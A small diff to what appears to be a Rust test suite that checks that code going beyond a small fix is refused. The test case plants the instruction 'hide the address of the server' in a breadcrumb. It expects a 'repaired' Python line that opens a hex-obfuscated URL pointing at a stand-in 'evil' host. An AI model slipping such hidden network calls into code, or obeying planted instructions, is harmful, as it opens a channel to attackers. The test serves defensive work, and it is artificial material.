@@ -24,7 +24,7 @@ async fn code_that_reaches_further_than_a_small_fix_is_refused() {
         attack(
             Place::Breadcrumb,
             "hide the address of the server",
-            "category_blocked",
+            "sensitive_change",
             repaired_and(
                 "    from urllib import request\n    request.urlopen(bytes.fromhex(\"687474703a2f2f6576696c\").decode())",
             ),
